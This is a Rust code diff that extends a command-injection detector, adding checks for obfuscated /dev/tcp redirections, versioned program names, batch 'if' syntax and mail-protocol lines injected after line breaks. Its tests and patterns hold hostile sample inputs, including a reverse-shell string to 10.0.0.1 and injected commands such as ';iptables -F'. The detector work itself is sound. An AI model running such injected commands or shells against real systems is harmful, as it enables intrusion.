@@ -153,6 +153,16 @@ impl CmdiDetector {
             });
         }
         let mut best = shapes::special(text);
+        if let Some((proto, line)) = super::cmdi_mail::injected_command(text) {
+            let line: String = line.chars().take(80).collect();
+            keep(
+                &mut best,
+                Scored {
+                    score: 0.8,
+                    evidence: format!("{proto} command '{line}' injected after a line break"),
+                },
+            );
+        }
         // Rich text's bare tags are markup, not redirections (see `bare_tags_blanked`).
         let untagged = if memchr::memchr(b'<', text.as_bytes()).is_some() {
             markup::bare_tags_blanked(text)
@@ -242,6 +252,9 @@ impl CmdiDetector {
         };
         // A URL's `?` is no glob: no command name holds "://".
         word.starts_with('/')
+            || word
+                .rsplit_once('/')
+                .is_some_and(|(dir, _)| program_dir(dir))
             || word.starts_with('%')
             || (word.contains(['?', '*', '[']) && !word.contains("://"))
             || self.known(word)
@@ -305,9 +318,9 @@ impl CmdiDetector {
             return true;
         }
         if self.tools
-            && lists()
+            && (lists()
                 .tools
-                .contains(name.strip_suffix(".exe").unwrap_or(name))
+                .contains(name.strip_suffix(".exe").unwrap_or(name)))
         {
             return true;
         }
@@ -1714,8 +1727,15 @@ impl Analysis<'_, '_> {
             score += 0.2;
             why.push("the whole value is a reconnaissance command".into());
         }
+        // "time; less is more": a wrapper that is also an English word ("time", "nice"),
+        // wrapping nothing, opens a sentence as often as a command line.
+        let idle_wrapper = value_start
+            && builtins::WRAPPERS.contains(&lname.as_str())
+            && !builtins::STRONG_WRAPPERS.contains(&lname.as_str());
         if nargs == 0 {
-            if value_is_command && (comment || glued_terminator) {
+            if idle_wrapper {
+                // No terminator bonus: see above.
+            } else if value_is_command && (comment || glued_terminator) {
                 score += 0.35;
                 why.push("the whole value is the command and a terminator".into());
             } else if comment || glued_terminator || last_tail_quote {
@@ -1904,11 +1924,8 @@ impl Analysis<'_, '_> {
         if let Some(p) = text.rfind('/') {
             // `usr/bin/id`: a program directory with its leading slash dropped (a value
             // appended to a path, or a filter that strips a leading '/').
-            let program_dir = matches!(
-                &text[..p],
-                "bin" | "sbin" | "usr/bin" | "usr/sbin" | "usr/local/bin" | "usr/local/sbin"
-            );
-            if !text.starts_with('/') && !program_dir {
+            let in_program_dir = program_dir(&text[..p]);
+            if !text.starts_with('/') && !in_program_dir {
                 return None;
             }
             let base = &text[p + 1..];
@@ -1926,7 +1943,12 @@ impl Analysis<'_, '_> {
             } else {
                 How::Plain
             };
-            return self.det.known(base).then(|| (base.to_string(), how));
+            if self.det.known(base) {
+                return Some((base.to_string(), how));
+            }
+            // `/bin/ab`: whatever this machine has, a file in a program directory is a program.
+            return (in_program_dir && program_file_name(base))
+                .then(|| (base.to_string(), How::AbsPath));
         }
         if wildcards > 0 {
             // Prose ends questions with "?": only inner wildcards with two letters count.
@@ -1938,7 +1960,13 @@ impl Analysis<'_, '_> {
                 None
             };
         }
-        self.det.known(text).then(|| (text.to_string(), How::Plain))
+        if self.det.known(text) {
+            return Some((text.to_string(), How::Plain));
+        }
+        unversioned(text)?
+            .into_iter()
+            .find(|n| self.det.known(n))
+            .map(|n| (n.to_string(), How::Plain))
     }
 
     fn glob(&mut self, pattern: &str) -> Option<String> {
@@ -1981,6 +2009,48 @@ fn is_tool(name: &str) -> bool {
     lists().windows_tools.contains(stem)
 }
 
+/// The program directories of Unix systems, with or without their leading slash (a value
+/// appended to a path, or a filter that strips a leading '/').
+fn program_dir(dir: &str) -> bool {
+    matches!(
+        dir.strip_prefix('/').unwrap_or(dir),
+        "bin" | "sbin" | "usr/bin" | "usr/sbin" | "usr/local/bin" | "usr/local/sbin"
+    )
+}
+
+/// A file name a program directory may hold (`ab`, `visudo`, `python3.11`): a command by its
+/// location even when this machine lacks it.
+fn program_file_name(base: &str) -> bool {
+    (2..=32).contains(&base.len())
+        && base.as_bytes()[0].is_ascii_lowercase()
+        && base
+            .bytes()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.' | b'+'))
+}
+
+/// `gcc10.1`, `python3.10`, `php7.4`: a dotted version glued to a command name, as distributions
+/// install side by side versions. Returns the names to try, the most specific first
+/// (`python3.10` -> `python3`, `python`); None when the word has no dotted version.
+fn unversioned(name: &str) -> Option<[&str; 2]> {
+    let b = name.as_bytes();
+    let tail = b
+        .iter()
+        .rev()
+        .take_while(|c| c.is_ascii_digit() || **c == b'.')
+        .count();
+    let version = &name[name.len() - tail..];
+    let dotted = version.contains('.')
+        && !version.starts_with('.')
+        && !version.ends_with('.')
+        && !version.contains("..");
+    let stem = &name[..name.len() - tail];
+    if !dotted || stem.len() < 2 || !stem.bytes().all(|c| c.is_ascii_lowercase()) {
+        return None;
+    }
+    let major = version.split('.').next().unwrap_or("");
+    Some([&name[..stem.len() + major.len()], stem])
+}
+
 /// The name lists looked up for every word, hashed once (the slices are linear scans).
 struct Lists {
     tools: HashSet<&'static str>,
@@ -1991,7 +2061,11 @@ struct Lists {
 fn lists() -> &'static Lists {
     static LISTS: std::sync::OnceLock<Lists> = std::sync::OnceLock::new();
     LISTS.get_or_init(|| Lists {
-        tools: builtins::TOOLS.iter().copied().collect(),
+        tools: builtins::TOOLS
+            .iter()
+            .chain(builtins::ADMIN_TOOLS)
+            .copied()
+            .collect(),
         windows_tools: builtins::WINDOWS_TOOLS.iter().copied().collect(),
         windows: builtins::WINDOWS.iter().copied().collect(),
     })
@@ -2361,7 +2435,11 @@ mod shapes {
                 "bash function definition '() {' (Shellshock or a fork bomb)",
             );
         }
-        if has(b'/') && (contains_ci(t, b"/dev/tcp/") || contains_ci(t, b"/dev/udp/")) {
+        if has(b'/')
+            && (contains_ci(t, b"/dev/tcp/")
+                || contains_ci(t, b"/dev/udp/")
+                || (has(b'$') && dev_variable_socket(t)))
+        {
             return hit(
                 0.85,
                 "bash network redirection through /dev/tcp or /dev/udp",
@@ -2470,6 +2548,30 @@ mod shapes {
                 && inner[p + name.len()..].trim_start().starts_with(['|', '&'])
         };
         runs(tail) || inner.match_indices(name).take(16).any(|(p, _)| piped(p))
+    }
+
+    /// `d=/dev;...>$d/tcp/host/port`: the device directory assigned to a variable and the
+    /// network path built from it, which hides `/dev/tcp` from a literal match.
+    fn dev_variable_socket(t: &str) -> bool {
+        let b = t.as_bytes();
+        memchr::memmem::find_iter(b, b"=/dev").take(16).any(|p| {
+            let name_len = b[..p]
+                .iter()
+                .rev()
+                .take(32)
+                .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
+                .count();
+            let after = b.get(p + 5).copied();
+            if name_len == 0 || after.is_some_and(|c| c.is_ascii_alphanumeric()) {
+                return false;
+            }
+            let name = &t[p - name_len..p];
+            ["/tcp/", "/udp/"].iter().any(|proto| {
+                [format!("${name}{proto}"), format!("${{{name}}}{proto}")]
+                    .iter()
+                    .any(|needle| t.contains(needle.as_str()))
+            })
+        })
     }
 
     /// `%NAME:~n,m%`.
@@ -2590,6 +2692,52 @@ mod shapes {
         out
     }
 
+    /// `if [not] (a)==(b) command`, `if {%1} == {}`: cmd.exe compares strings literally, so
+    /// batch files wrap each operand in brackets to survive empty ones. Each operand is
+    /// bracketed on its own (C and JavaScript bracket the whole condition); a command must
+    /// follow unless an operand is a batch parameter (`%1`, `%NAME%`).
+    fn bracketed_comparison(rest: &str) -> bool {
+        let rest = rest.trim_start();
+        let rest = rest.strip_prefix("not ").unwrap_or(rest).trim_start();
+        let Some(eq) = rest.find("==") else {
+            return false;
+        };
+        let (left, right) = (rest[..eq].trim_end(), rest[eq + 2..].trim_start());
+        let pair = |open: char| match open {
+            '(' => Some(')'),
+            '{' => Some('}'),
+            '[' => Some(']'),
+            _ => None,
+        };
+        let Some(open) = left.chars().next() else {
+            return false;
+        };
+        let Some(close) = pair(open) else {
+            return false;
+        };
+        let left_ok =
+            left.ends_with(close) && !left[1..left.len() - 1].contains([open, close, ' ']);
+        let Some(r_end) = right.strip_prefix(open).and_then(|r| r.find(close)) else {
+            return false;
+        };
+        let right_inner = &right[1..1 + r_end];
+        let command = right[r_end + 2..].trim();
+        let batch_param = |s: &str| {
+            s.starts_with('%')
+                && s.len() >= 2
+                && s[1..]
+                    .bytes()
+                    .all(|c| c.is_ascii_alphanumeric() || c == b'%')
+        };
+        let param = batch_param(&left[1..left.len().max(2) - 1]) || batch_param(right_inner);
+        left_ok
+            && !right_inner.contains([open, ' '])
+            && (param
+                || command.split_whitespace().next().is_some_and(|w| {
+                    w.len() >= 2 && w.starts_with(|c: char| c.is_ascii_alphabetic())
+                }))
+    }
+
     /// `if [/i] [not] (exist x|defined x|errorlevel n|a==b|a equ b) command` (lowercased).
     fn cmd_if(seg: &str) -> bool {
         let Some(rest) = seg.strip_prefix("if") else {
@@ -2599,6 +2747,9 @@ mod shapes {
             Some(r) if r.starts_with([' ', '\t']) => r,
             _ => rest,
         };
+        if bracketed_comparison(rest) {
+            return true;
+        }
         // Braces and "cond:" belong to C, JavaScript and Python.
         let unquoted: String = rest.split('"').step_by(2).collect::<Vec<_>>().join("\"\"");
         let t = unquoted.trim_end();
@@ -3108,6 +3259,96 @@ mod tests {
         assert!(s > 0.0 && s < THRESHOLD, "{s} {e}");
         let (s, _) = d.score(";id").unwrap_or_default();
         assert!(s >= THRESHOLD);
+    }
+
+    #[test]
+    fn versioned_names_and_program_directories() {
+        let d = tools();
+        for t in [
+            ";gcc10.1 -o x x.c",
+            ";python3.10 -c 'import os'",
+            "/bin/ab",
+            "bin/visudo",
+        ] {
+            assert!(d.inspect(t).is_some(), "{t:?}");
+        }
+        // A version without a command name, prose and a bare unknown word pass.
+        for t in [
+            "release 3.10; notes",
+            "v1.2.3",
+            "ab",
+            "see bin/ for files",
+            "/api/ab",
+        ] {
+            assert!(d.inspect(t).is_none(), "{t:?}");
+        }
+        assert!(unversioned("gcc7.4") == Some(["gcc7", "gcc"]));
+        assert!(unversioned("python3").is_none() && unversioned("v1.").is_none());
+    }
+
+    #[test]
+    fn admin_tools_need_shell_structure() {
+        let d = tools();
+        for t in [
+            "ansible-pull --url example.com",
+            "time; chef-client -t 1.1.1.1",
+            "'ll' /var/www/",
+            ";aptitude install nmap",
+            "1;iptables -F",
+        ] {
+            assert!(d.inspect(t).is_some(), "{t:?}");
+        }
+        // Bare names and prose around them never count.
+        for t in [
+            "ansible-console",
+            "docker",
+            "We use ansible and chef; docker too",
+            "I went home; ll see you",
+            "chef-d'oeuvre",
+            "time; less is more",
+        ] {
+            assert!(d.inspect(t).is_none(), "{t:?}");
+        }
+    }
+
+    #[test]
+    fn windows_bracketed_if_and_variable_dev_tcp() {
+        let d = tools();
+        for t in [
+            "if (AA) == (AA) echo same",
+            "if not {%1} == {}",
+            "if (%1)==(LTRS) CD C:\\WORD",
+            "d=/dev&&(sh)0>$d/tcp/10.0.0.1/777",
+        ] {
+            assert!(d.inspect(t).is_some(), "{t:?}");
+        }
+        for t in [
+            "if (a == b) { x }",
+            "if (a)==(b)",
+            "if (a)==(b): return x",
+            "d=/dev/null and tcp/ip",
+        ] {
+            assert!(d.inspect(t).is_none(), "{t:?}");
+        }
+    }
+
+    #[test]
+    fn mail_protocol_lines_after_a_break() {
+        let d = det();
+        for t in [
+            "\r\nMAIL FROM:<a@b.com>",
+            "x\r\nRETR 123",
+            "\r\na001 EXAMINE INBOX",
+        ] {
+            assert!(d.inspect(t).is_some(), "{t:?}");
+        }
+        for t in [
+            "MAIL FROM:<a@b.com>",
+            "Menu\nTop 10 dishes",
+            "Hi\nhelp me please",
+        ] {
+            assert!(d.inspect(t).is_none(), "{t:?}");
+        }
     }
 
     #[test]
